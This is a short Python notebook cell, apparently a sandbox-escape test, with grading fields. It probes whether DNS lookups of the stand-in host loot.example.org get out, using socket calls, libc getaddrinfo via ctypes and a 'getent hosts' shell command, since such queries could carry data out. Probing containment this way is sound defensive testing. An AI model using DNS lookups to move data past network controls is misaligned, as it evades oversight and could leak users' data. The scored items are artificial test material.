"""Asks for the addresses of names, which would carry data out in the question.

Added to: right answers
Score: full
Loot: none
"""

# %%
import ctypes
import socket

for ask in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80)):
    try:
        loot.append(ask("loot.example.org"))
    except OSError:
        pass
libc = ctypes.CDLL(None)
result = ctypes.c_void_p()
if libc.getaddrinfo(b"loot.example.org", b"80", None, ctypes.byref(result)) == 0:
    loot.append("getaddrinfo")
loot += [line for line in get_ipython().getoutput("getent hosts loot.example.org 2>/dev/null") if line]
